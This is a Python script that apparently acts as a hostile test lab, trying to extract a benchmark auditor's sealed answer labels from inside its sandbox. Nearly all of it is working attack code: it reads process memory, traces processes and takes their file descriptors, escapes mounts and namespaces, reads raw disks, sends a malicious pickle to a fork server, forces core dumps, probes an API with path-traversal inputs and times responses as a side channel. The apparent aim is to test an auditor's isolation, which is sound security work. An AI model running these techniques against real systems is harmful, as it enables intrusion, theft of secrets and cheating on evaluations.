"""A hostile lab: it reads everything that it can reach, and guesses every sealed label.

It uses the standard library alone, so that any user can run it. It receives everything but the
labels: every question, the form of a sealed row, the paths of the auditor's folder and the sealed
file, the auditor's processes, even the file handle of the sealed copy. What it searches for has a
fixed form (a row of the sealed file, or a code), so that it can search whatever it reads at once.
It skips files that were last changed before the items were drawn, because these cannot contain
them. It never touches a process that is older than the items.

    python lab.py TASK.json > RESULT.json
"""

# Paths are strings here, because many of them belong to other processes.
# ruff: noqa: PTH103, PTH104, PTH108, PTH109, PTH116, PTH120, PTH123, PTH207, PTH208
from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import http.client
import json
import os
import pickle
import random
import re
import select
import signal
import socket
import ssl
import stat
import statistics
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

ROW = re.compile(rb'"id": ?"(szq[0-9a-f]{12})"[^{}]{0,400}?"target": ?"(wug|fep)"')
CODE = re.compile(rb"szc[0-9a-f]{20}")
CHUNK, MOST_FILE, MOST_PROCESS = 4 << 20, 64 << 20, 1 << 30
LIBC = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWPID, NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000
MS_BIND, MS_REC, MNT_DETACH = 4096, 16384, 2


class Wing:
    """One attack: it tries every route and then guesses the labels."""

    def __init__(self, task: dict[str, Any]) -> None:
        """Start with no result; ``task`` is the content of TASK.json."""
        self.task = task
        self.start = time.monotonic()
        self.labels: dict[str, str] = {}
        self.codes: set[str] = set()
        self.routes: dict[str, dict[str, Any]] = {}
        self.route = ""
        self.by_route: set[str] = set()
        self.seen: set[tuple[int, int]] = set()
        self.took: dict[str, dict[str, list[float]]] = {}
        self.line: http.client.HTTPConnection | None = None

    # --- results ----------------------------------------------------------------------------------

    def look(self, data: bytes) -> None:
        """Search the bytes that were read."""
        for name, label in ROW.findall(data):
            self.labels.setdefault(name.decode(), label.decode())
            self.by_route.add(name.decode())
        for code in CODE.findall(data):
            self.codes.add(code.decode())
            self.by_route.add(code.decode())
        entry = self.routes[self.route]
        entry["bytes"] += len(data)
        entry["found"] = len(self.by_route)

    def note(self, what: str, count: int = 1) -> None:
        """Add to a counter of the current route."""
        entry = self.routes[self.route]
        entry[what] = entry.get(what, 0) + count

    def read(self, path: str | Path, most: int = MOST_FILE) -> bool:
        """Read a file up to a limit, and search it."""
        try:
            handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError:
            self.note("refused")
            return False
        try:
            self.note("opened")
            tail = b""
            while most > 0 and (chunk := os.read(handle, CHUNK)):
                self.look(tail + chunk)
                tail, most = chunk[-1024:], most - len(chunk)
        except OSError:
            self.note("unreadable")
        finally:
            os.close(handle)
        return True

    def try_route(self, name: str, attack: Callable[[], None], seconds: float) -> None:
        """Run one attack in this process for this number of seconds; an exception ends it."""
        self.route = name
        self.routes[name] = {"bytes": 0, "found": 0}
        self.by_route, self.seen = set(), set()
        self.until = time.monotonic() + seconds
        start = time.monotonic()
        try:
            attack()
        except Exception as error:
            self.routes[name]["ended"] = f"{type(error).__name__}: {error}"[:200]
        self.routes[name]["seconds"] = round(time.monotonic() - start, 2)

    def apart(self, name: str, attack: Callable[[], None], seconds: float) -> None:
        """Run one attack in a child process, because it changes its own process."""
        ours, theirs = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(ours)
            code = 0
            try:
                self.labels, self.codes = {}, set()
                self.try_route(name, attack, seconds)
                with os.fdopen(theirs, "w") as out:
                    json.dump([self.labels, sorted(self.codes), self.routes[name]], out)
            except BaseException:
                code = 1
            os._exit(code)
        os.close(theirs)
        said, end = b"", time.monotonic() + seconds + 5
        while (left := end - time.monotonic()) > 0 and select.select([ours], [], [], left)[0]:
            if not (chunk := os.read(ours, CHUNK)):
                break
            said += chunk
        os.close(ours)
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        labels, codes, entry = json.loads(said) if said else ({}, [], {"bytes": 0, "found": 0, "ended": "no answer"})
        self.labels = {**labels, **self.labels}
        self.codes |= set(codes)
        self.routes[name] = entry

    @property
    def late(self) -> bool:
        """Whether the time of the current route is over."""
        return time.monotonic() > self.until

    # --- files ------------------------------------------------------------------------------------

    def targets(self) -> list[str]:
        """Return every path under which this user might reach the sealed items."""
        places = [self.task["keep"], self.task["sealed"], self.task["temporary"]]
        roots = ["", *(f"/proc/{pid}/root" for pid in self.pids()), *(f"/proc/{pid}/cwd/.." for pid in self.pids())]
        return [root + place for root in roots for place in places]

    def tree(self, top: str) -> None:
        """Read every file of a folder that changed after the items were drawn."""
        waiting = [top]
        while waiting and not self.late:
            here = waiting.pop()
            try:
                found = os.lstat(here)
                if stat.S_ISDIR(found.st_mode):
                    if here in ("/proc", "/sys"):
                        continue
                    with os.scandir(here) as entries:
                        self.note("folders")
                        for entry in entries:
                            if entry.is_dir(follow_symlinks=False):
                                waiting.append(entry.path)
                            elif entry.is_file(follow_symlinks=False):
                                self.fresh(entry.path, entry.stat(follow_symlinks=False))
                elif stat.S_ISREG(found.st_mode):
                    self.fresh(here, found)
            except OSError:
                self.note("refused")

    def fresh(self, path: str, found: os.stat_result) -> None:
        """Read a file if it changed after the items were drawn and was not read before."""
        self.note("files")
        if found.st_ctime >= self.task["since"] and (found.st_dev, found.st_ino) not in self.seen:
            self.seen.add((found.st_dev, found.st_ino))
            self.read(path)

    def known_places(self) -> None:
        """Read the places of the sealed items."""
        for place in self.targets():
            self.tree(place)

    def all_files(self) -> None:
        """Read all files of the machine, as long as there is time."""
        for top in ("/tmp", "/var/tmp", "/dev", "/run", "/var", "/home", "/root", os.getcwd(), "/"):
            self.tree(top)
        self.note("all" if not self.late else "cut off")

    def kernel_files(self) -> None:
        """Read the kernel's log, its lists of shared memory, keys and swap, and files of /sys."""
        for name in ("keys", "key-users", "sysvipc/shm", "sysvipc/msg", "swaps", "net/unix", "net/tcp", "locks", "kallsyms", "kcore"):
            self.read(f"/proc/{name}", 1 << 20)
        buffer = ctypes.create_string_buffer(1 << 20)
        size = LIBC.klogctl(3, buffer, len(buffer))
        if size > 0:
            self.look(buffer.raw[:size])
        self.read("/dev/kmsg", 1 << 20)
        with contextlib.suppress(OSError):
            for line in Path("/proc/swaps").read_text().splitlines()[1:]:
                self.read(line.split()[0])
        for top in ("/sys/kernel/mm", "/sys/fs", "/sys/class/block"):
            for folder, _, names in os.walk(top):
                for name in names[:50]:
                    if self.late:
                        return
                    self.read(f"{folder}/{name}", 65536)

    def shared_memory(self) -> None:
        """Read System V segments and POSIX shared memory and queues."""
        LIBC.shmat.restype = ctypes.c_void_p
        with contextlib.suppress(OSError):
            for line in Path("/proc/sysvipc/shm").read_text().splitlines()[1:]:
                fields = line.split()
                at = LIBC.shmat(int(fields[1]), None, 0o10000)
                if at not in (None, ctypes.c_void_p(-1).value):
                    self.look(ctypes.string_at(at, min(int(fields[3]), MOST_FILE)))
        for path in glob.glob("/dev/shm/**", recursive=True) + glob.glob("/dev/mqueue/*"):
            with contextlib.suppress(OSError):
                if Path(path).lstat().st_ctime >= self.task["since"]:
                    self.read(path)

    def inherited(self) -> None:
        """Read inherited file descriptors, also those of deleted files."""
        for fd in range(3, 256):
            with contextlib.suppress(OSError):
                mode = os.fstat(fd).st_mode
                self.note("inherited")
                if stat.S_ISREG(mode):
                    self.look(os.pread(fd, MOST_FILE, 0))
                    self.note("read")
                if stat.S_ISDIR(mode):
                    self.read(f"/proc/self/fd/{fd}/../../../../../..{self.task['sealed']}")

    def devices(self) -> None:
        """Read the disk and the memory as devices."""
        names = [*glob.glob("/dev/vd*"), *glob.glob("/dev/sd*"), *glob.glob("/dev/nvme*"), *glob.glob("/dev/dm-*"), "/dev/mem", "/dev/kmem"]
        device = os.stat(self.task["writable"]).st_dev
        own = f"{self.task['writable']}/node"
        for number in (device, os.makedev(os.major(device), 0), os.makedev(1, 1)):
            try:
                os.mknod(own, 0o600 | stat.S_IFBLK, number)
                names.append(own)
            except OSError:
                self.note("mknod refused")
            for name in dict.fromkeys(names):
                if self.read(name):
                    self.note("raw devices opened")
            with contextlib.suppress(OSError):
                os.unlink(own)
            names = []

    # --- processes --------------------------------------------------------------------------------

    def pids(self) -> list[int]:
        """Return the processes of others that began after the items were drawn."""
        found = []
        for name in os.listdir("/proc"):
            with contextlib.suppress(OSError, ValueError, IndexError):
                pid = int(name)
                began = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[19])
                if began >= self.task["since_ticks"] and pid != os.getpid() and pid not in self.task["not_these"]:
                    found.append(pid)
        return sorted(found, reverse=True)

    def auditors(self) -> list[int]:
        """Return those of them that belong to the auditor."""
        found = []
        for pid in self.pids():
            with contextlib.suppress(OSError):
                line = Path(f"/proc/{pid}/cmdline").read_bytes()
                if self.task["keep"].encode() in line or (b"forkserver" in line and pid in self.task["pids"]) or pid in self.task["pids"]:
                    found.append(pid)
        return found

    def process_files(self) -> None:
        """Read environments, command lines and open files of processes."""
        for pid in self.pids():
            if self.late:
                return
            self.note("processes")
            for name in ("environ", "cmdline", "auxv", "syscall", "stack", "wchan"):
                self.read(f"/proc/{pid}/{name}")
            for folder in ("fd", "map_files"):
                try:
                    names = os.listdir(f"/proc/{pid}/{folder}")
                except OSError:
                    self.note("refused")
                    continue
                for name in names[:500]:
                    with contextlib.suppress(OSError):
                        path = f"/proc/{pid}/{folder}/{name}"
                        if stat.S_ISREG(os.stat(path).st_mode) and os.stat(path).st_ctime >= self.task["since"]:
                            self.read(path)

    def memory(self) -> None:
        """Read the memory of every process, the auditor's first."""
        mine = self.auditors()
        for pid in [*mine, *(p for p in self.pids() if p not in mine)]:
            if self.late:
                return
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                    self.note("processes opened")
                    left = MOST_PROCESS
                    for line in maps:
                        if self.late or left <= 0:
                            break
                        area, rights = line.split()[:2]
                        low, high = (int(part, 16) for part in area.split("-"))
                        if rights[0] != "r" or "w" not in rights or high - low > MOST_PROCESS:
                            continue
                        with contextlib.suppress(OSError, ValueError, OverflowError):
                            for at in range(low, high, CHUNK):
                                memory.seek(at)
                                data = memory.read(min(CHUNK, high - at) or 0)
                                left -= len(data)
                                self.look(data)
            except OSError:
                self.note("refused")

    def attach(self) -> None:
        """Trace the auditor's processes, copy their file descriptors and enter their namespaces."""
        for pid in self.auditors():
            if LIBC.ptrace(16, pid, None, None) == 0:
                self.note("attached")
                os.waitpid(pid, 0x40000000)
                self.read(f"/proc/{pid}/mem", 1)
                LIBC.ptrace(17, pid, None, None)
            else:
                self.note("attach refused")
            with contextlib.suppress(OSError):
                handle = os.pidfd_open(pid)
                for fd in range(64):
                    got = LIBC.syscall(438, handle, fd, 0)
                    if got >= 0:
                        self.note("files taken over")
                        with contextlib.suppress(OSError):
                            if stat.S_ISREG(os.fstat(got).st_mode):
                                self.look(os.pread(got, MOST_FILE, 0))
                        os.close(got)
                os.close(handle)
            for kind in ("mnt", "pid", "user", "ipc", "net"):
                with contextlib.suppress(OSError):
                    handle = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                    self.note("namespaces entered" if LIBC.setns(handle, 0) == 0 else "namespaces refused")
                    os.close(handle)
        for place in (self.task["keep"], self.task["sealed"]):
            self.tree(place)

    def core_dump(self) -> None:
        """Make the auditor dump its memory to a file; runs last, because it ends the auditor."""
        setting = Path("/proc/sys/kernel/core_pattern")
        with contextlib.suppress(OSError):
            before = setting.read_text()
            setting.write_text(before)  # unchanged; write access is proof enough, because the kernel would run a program from here
            self.note("kernel settings written")
        for pid in self.auditors():
            limit = struct.pack("QQ", 2**64 - 1, 2**64 - 1)
            if LIBC.prlimit(pid, 4, ctypes.create_string_buffer(limit), None) == 0:
                self.note("limits lifted")
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGABRT)
                self.note("killed")
        time.sleep(2)
        for folder in (self.task["writable"], self.task["keep"], os.getcwd(), "/var/lib/systemd/coredump", "/var/crash"):
            for path in glob.glob(f"{folder}/*core*"):
                self.tree(path)

    # --- sockets and the terminal -----------------------------------------------------------------

    def sockets(self) -> None:
        """Connect to Unix sockets; Python's fork servers execute the programs that they receive."""
        names = {line.split()[-1] for line in Path("/proc/net/unix").read_text(errors="replace").splitlines()[1:] if len(line.split()) == 8}
        names |= set(glob.glob(f"{self.task['temporary']}/**/listener-*", recursive=True)) | set(self.task["sockets"])
        for name in sorted(names):
            if name.startswith("/"):
                with contextlib.suppress(OSError):
                    if os.lstat(name).st_ctime < self.task["since"]:
                        continue
            with socket.socket(socket.AF_UNIX) as line:
                line.settimeout(2)
                try:
                    line.connect("\0" + name[1:] if name.startswith("@") else name)
                except OSError as error:
                    self.note(f"refused ({errno.errorcode.get(error.errno or 0, '?')})")
                    continue
                self.note("connected")
                if "listener-" in name and name.startswith(self.task["temporary"]):
                    self.run_in_fork_server(line)

    def run_in_fork_server(self, line: socket.socket) -> None:
        """Make a fork server run a program that sends the auditor's files through a pipe."""
        code = (
            "import glob, multiprocessing.forkserver as f, os\n"
            f"for p in glob.glob({self.task['keep']!r} + '/**', recursive=True) + [{self.task['sealed']!r}]:\n"
            "    if os.path.isfile(p): os.write(f._forkserver._inherited_fds[0], open(p, 'rb').read())\n"
            "os._exit(0)\n"
        )

        class Sent:
            def __reduce__(self) -> tuple[Any, ...]:
                return exec, (code,)

        from_child, to_us = os.pipe()
        reads, writes = os.pipe()
        _, spare = os.pipe()
        given = [reads, spare, spare, spare, to_us]
        line.sendmsg([bytes([len(given)])], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack(f"{len(given)}i", *given))])
        os.write(writes, pickle.dumps({}) + pickle.dumps(Sent()))
        for fd in (writes, to_us, reads):
            os.close(fd)
        self.note("programs sent")
        said = b""
        while select.select([from_child], [], [], 5)[0] and (chunk := os.read(from_child, CHUNK)):
            said += chunk
        self.look(said)

    # --- namespaces -------------------------------------------------------------------------------

    def uncover(self) -> None:
        """Remove the covers of the box: as this user, then as root of a new user namespace."""
        self._uncover()
        ids = os.getuid(), os.getgid()
        if LIBC.unshare(NEWUSER | NEWNS) != 0:
            self.note("user namespace refused")
            return
        self.note("user namespaces")
        with contextlib.suppress(OSError):
            Path("/proc/self/setgroups").write_text("deny")
            Path("/proc/self/uid_map").write_text(f"0 {ids[0]} 1")
            Path("/proc/self/gid_map").write_text(f"0 {ids[1]} 1")
        self._uncover()
        if LIBC.unshare(NEWPID) == 0 and (child := os.fork()) == 0:
            LIBC.mount(b"proc", self.task["writable"].encode(), b"proc", 0, None)
            os._exit(0)
        elif child:
            os.waitpid(child, 0)

    def _uncover(self) -> None:
        """Try to reach the covered paths by mounts, moves and renames."""
        keep, sealed, own = self.task["keep"], self.task["sealed"], f"{self.task['writable']}/mount"
        os.makedirs(own, exist_ok=True)
        self.handles()
        # A bind mount of the parent, without the covers on it.
        for above in (os.path.dirname(keep), "/"):
            for flags in (MS_BIND, MS_BIND | MS_REC):
                if LIBC.mount(above.encode(), own.encode(), None, flags, None) == 0:
                    self.note("mounts made")
                    self.tree(f"{own}/{os.path.relpath(keep, above)}")
                    self.tree(f"{own}/{os.path.relpath(sealed, above)}" if sealed.startswith(above) else own + keep)
                    LIBC.umount2(own.encode(), MNT_DETACH)
            tree = LIBC.syscall(428, -100, above.encode(), 1)  # open_tree, a copy
            if tree >= 0:
                self.note("trees copied")
                self.tree(f"/proc/self/fd/{tree}/{os.path.relpath(keep, above)}")
                os.close(tree)
        for device, kind in ((b"proc", b"proc"), (b"/dev/vda", b"ext4"), (b"none", b"devtmpfs")):
            if LIBC.mount(device, own.encode(), kind, 0, None) == 0:
                self.note(f"{kind.decode()} mounted")
                for pid in self.task["pids"]:
                    self.tree(f"{own}/{pid}/root{keep}")
                self.tree(own + keep)
                LIBC.umount2(own.encode(), MNT_DETACH)
        for line in Path("/proc/self/mountinfo").read_text().splitlines()[::-1]:
            point = line.split()[4].encode().decode("unicode_escape")
            if keep.startswith(point) or point.startswith(keep) or sealed == point:
                self.note("unmounted" if LIBC.umount2(point.encode(), MNT_DETACH) == 0 else "unmount refused")
        for place in (keep, sealed):
            if LIBC.syscall(429, -100, place.encode(), -100, own.encode(), 0) == 0:  # move_mount
                self.note("covers moved")
            self.tree(place)
        # Rename the folder below a cover.
        with contextlib.suppress(OSError):
            os.rename(os.path.dirname(keep), os.path.dirname(keep) + ".moved")
            self.note("renamed")
            self.tree(os.path.dirname(keep) + ".moved")
            os.rename(os.path.dirname(keep) + ".moved", os.path.dirname(keep))

    def handles(self) -> None:
        """Open the sealed copy by its file handle, without a path."""
        for kind, raw in self.task["handles"]:
            data = bytes.fromhex(raw)
            handle = ctypes.create_string_buffer(struct.pack("Ii", len(data), kind) + data)
            for where in ("/", self.task["writable"], os.path.dirname(self.task["keep"]), "/usr"):
                with contextlib.suppress(OSError):
                    at = os.open(where, os.O_RDONLY)
                    got = LIBC.open_by_handle_at(at, handle, os.O_RDONLY)
                    os.close(at)
                    self.note("handles opened" if got >= 0 else "handles refused")
                    if got >= 0:
                        self.look(os.read(got, MOST_FILE))
                        os.close(got)

    def watch(self) -> None:
        """Watch for files that appear while an audit runs."""
        watching = LIBC.inotify_init1(os.O_NONBLOCK)
        for place in (self.task["keep"], os.path.dirname(self.task["keep"]), self.task["temporary"], "/tmp", "/var/tmp", "/dev/shm"):
            if LIBC.inotify_add_watch(watching, place.encode(), 0x3FF) < 0:
                self.note("refused")
        end = time.monotonic() + min(4.0, self.until - time.monotonic())
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                self.look(os.read(watching, 65536))
                self.note("events")
            for place in (self.task["temporary"], "/var/tmp", "/dev/shm"):
                self.tree(place)
            time.sleep(0.05)

    # --- the door ---------------------------------------------------------------------------------

    def connection(self) -> http.client.HTTPConnection:
        """Return a connection to the auditor."""
        scheme, _, rest = self.task["address"].partition("://")
        host, _, port = rest.rpartition(":")
        if scheme == "http":
            return http.client.HTTPConnection(host, int(port), timeout=30)
        return http.client.HTTPSConnection(host, int(port), timeout=30, context=ssl.create_default_context(cafile=self.task["ca"]))

    def ask(self, method: str, path: str, body: Any = None, token: str | None = "", **headers: str) -> tuple[int, bytes, float]:
        """Send a request; return the status, the bytes of the reply, and the seconds it took."""
        if token is not None:
            headers.setdefault("Authorization", f"Bearer {token or self.task['token']}")
        if isinstance(body, (dict, list)):
            body, headers["Content-Type"] = json.dumps(body).encode(), "application/json"
        start = time.perf_counter()
        try:
            if self.line is None:
                self.line = self.connection()
            self.line.request(method, path, body, headers)
            reply = self.line.getresponse()
            data = str(reply.getheaders()).encode() + reply.read()
        except (OSError, http.client.HTTPException) as error:
            self.line = None
            self.note("no reply")
            return 0, str(error).encode(), time.perf_counter() - start
        took = time.perf_counter() - start
        self.note(f"replies {reply.status}")
        self.look(data)
        return reply.status, data, took

    def door(self) -> None:
        """Send every kind of request, also invalid ones, and submit models for audit."""
        task, suite = self.task, self.task["suite"]
        if task["setup"] is not None:
            _, data, _ = self.ask("POST", "/v1/setup", task["setup"])
            found = re.search(rb'"suite":"([^"]+)"', data)
            suite = task["suite"] = found[1].decode() if found else "none"
            self.own_sealed_files(task["setup"])
        for model in task["models"]:
            self.hand_in(suite, model)
        self.malformed(suite)
        end = min(self.until, time.monotonic() + 15)
        while time.monotonic() < end:
            replies = [self.ask("GET", f"/v1/submissions/{n}") for n in range(1, 1 + len(task["models"]))]
            if all(status != 202 for status, _, _ in replies):
                break
            time.sleep(0.2)
        for n in range(1, 12):
            for token in ("", task["other"]):
                self.ask("GET", f"/v1/submissions/{n}", token=token)
                self.ask("GET", f"/v1/submissions/{n}/attestation", token=token)

    def hand_in(self, suite: str, model: dict[str, str]) -> None:
        """Submit a model by folder or upload."""
        if self.task["takes"] == "folder":
            self.ask("POST", "/v1/submissions", {"suite": suite, "digest": model["digest"], "folder": model["folder"]})
            return
        for path in sorted(Path(model["folder"]).iterdir()):
            self.ask("PUT", f"/v1/models/{model['digest']}/{path.name}", path.read_bytes())
        self.ask("POST", "/v1/submissions", {"suite": suite, "digest": model["digest"]})

    def own_sealed_files(self, setup: dict[str, Any]) -> None:
        """Set up the lab's own sealed file, with a program as checker, and the auditor's files."""
        own = Path(self.task["writable"])
        out = own / "told"
        (own / "checker.py").write_text(
            "import glob, os\n"
            f"for p in glob.glob({self.task['keep']!r} + '/**', recursive=True) + [{self.task['sealed']!r}]:\n"
            f"    if os.path.isfile(p): open({str(out)!r}, 'ab').write(open(p, 'rb').read())\n"
            "def score(item, answer): return 'wrong'\n"
        )
        rows = [
            {"id": f"{kind}{i}", "input": f"own {kind} {i}", "target": "x", "scorer": "python", "checker": "checker.py",
             "kind": kind, "property": "candour", "split": "open", "twin_of": f"trap{i}"}
            for i in range(5) for kind in ("trap", "twin")
        ]  # fmt: skip
        (own / "own.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
        places = [str(own / "own.jsonl"), f"{self.task['keep']}/auditor.log", f"{self.task['keep']}/secret", f"{self.task['keep']}/key"]
        for number, place in enumerate([*places, f"{self.task['keep']}/meter.sqlite", self.task["sealed"]]):
            terms = {**setup["terms"], "sealed": place, "bars": {"candour": 0.5}, "suite": str(own / "own.jsonl")}
            status, data, _ = self.ask("POST", "/v1/setup", {**setup, "project": f"own{number}", "terms": terms})
            found = re.search(rb'"suite":"([^"]+)"', data)
            if status < 300 and found:
                self.note("sealed files taken")
                self.hand_in(found[1].decode(), self.task["models"][0])
                time.sleep(3)
        for base in (self.task["keep"], f"{self.task['keep']}/sealed", "/proc/self/cwd"):
            self.ask("POST", "/v1/setup", {**setup, "project": "base", "base": base})
        self.tree(str(out))

    def malformed(self, suite: str) -> None:
        """Send requests to which a careless service would reply with too much."""
        names = [
            suite,
            "..",
            "../" * 8 + "etc/passwd",
            "%2e%2e%2fsealed",
            "x" * 5000,
            "\x00",
            "'; --",
            f"{suite}.shadow",
            self.task["questions"][0],
        ]
        for name in names:
            quoted = quote(name, safe="%")
            for path in (f"/v1/suites/{quoted}", f"/v1/suites/{quoted}/certificate", f"/v1/suites/{quoted}/models/{'0' * 64}", f"/{quoted}",
                         f"/v1/submissions/{quoted}", f"/v1/models/{'0' * 64}/{quoted}", f"/sealed/{quoted}"):  # fmt: skip
                for method in ("GET", "PUT", "DELETE", "OPTIONS", "TRACE"):
                    self.ask(method, path, b"x" if method == "PUT" else None)
        folders = [
            self.task["keep"],
            f"{self.task['keep']}/sealed/{suite}",
            self.task["sealed"],
            "/proc/self/root",
            "/proc/self/fd",
            "relative",
            "\x00",
        ]
        for folder in folders:
            self.ask("POST", "/v1/submissions", {"suite": suite, "digest": "0" * 64, "folder": folder})
        bodies = [
            b"{",
            b"[]" * 1000,
            b"\xff" * 100,
            b'{"suite": NaN}',
            b"[" * 60000,
            {"suite": suite, "digest": 1},
            {"suite": suite, "more": 1},
        ]
        for body in bodies:
            for path in ("/v1/submissions", "/v1/witness", "/v1/checkpoint", "/v1/setup"):
                self.ask("POST", path, body)
        for token in (None, "x", "\t", "é".encode().decode("latin-1")):
            self.ask("GET", f"/v1/suites/{suite}", token=token)
        for number in (0, -1, 2**53, 2**63, 2**70, 10**300):
            self.ask("GET", f"/v1/submissions/{number}")
        self.ask("GET", "/openapi.json")
        self.ask("POST", "/v1/checkpoint", {"checkpoint": "x\n1\n" + "A" * 44 + "\n\n— x AAAAAAAA\n"})

    def timings(self) -> None:
        """Time requests that name an item with each of its possible answers."""
        self.took = {name: {"wug": [], "fep": []} for name in self.task["ids"]}
        order = [(name, word) for name in self.task["ids"] for word in ("wug", "fep")]
        while not self.late:
            random.shuffle(order)
            for name, word in order:
                if self.late:
                    return
                self.took[name][word].append(self.ask("GET", f"/v1/suites/{name}-{word}")[2])

    # --- guesses ----------------------------------------------------------------------------------

    def guesses(self) -> dict[str, str]:
        """Return a label for every item: as read, else by response times, else at random."""
        found = dict(self.labels)
        for name in self.task["ids"]:
            took = self.took.get(name, {})
            if name not in found:
                timed = all(took.get(word) for word in ("wug", "fep"))
                by_time = max(("wug", "fep"), key=lambda word: statistics.median(took[word])) if timed else None
                found[name] = by_time or random.choice(("wug", "fep"))
        return found

    def run(self) -> dict[str, Any]:
        """Try every route, and return the guesses, the codes and the routes."""
        span: Callable[[float], float] = lambda share: share * self.task["seconds"]  # noqa: E731
        self.try_route("the door", self.door, span(0.35))
        self.try_route("the clock", self.timings, span(0.15))
        self.try_route("known places", self.known_places, span(0.05))
        self.try_route("sockets", self.sockets, span(0.1))
        self.try_route("files of processes", self.process_files, span(0.05))
        self.apart("watching", self.watch, span(0.06))
        self.try_route("inherited files", self.inherited, span(0.02))
        self.try_route("shared memory", self.shared_memory, span(0.02))
        self.try_route("the kernel's files", self.kernel_files, span(0.04))
        self.apart("devices", self.devices, span(0.04))
        self.apart("covers and namespaces", self.uncover, span(0.08))
        self.apart("attaching", self.attach, span(0.05))
        self.try_route("memory", self.memory, span(0.15))
        self.try_route("all files", self.all_files, span(0.35))
        self.apart("core dumps", self.core_dump, span(0.05))
        return {"guesses": self.guesses(), "codes": sorted(self.codes), "routes": self.routes, "seconds": time.monotonic() - self.start}


if __name__ == "__main__":
    print(json.dumps(Wing(json.loads(Path(sys.argv[1]).read_text())).run()))
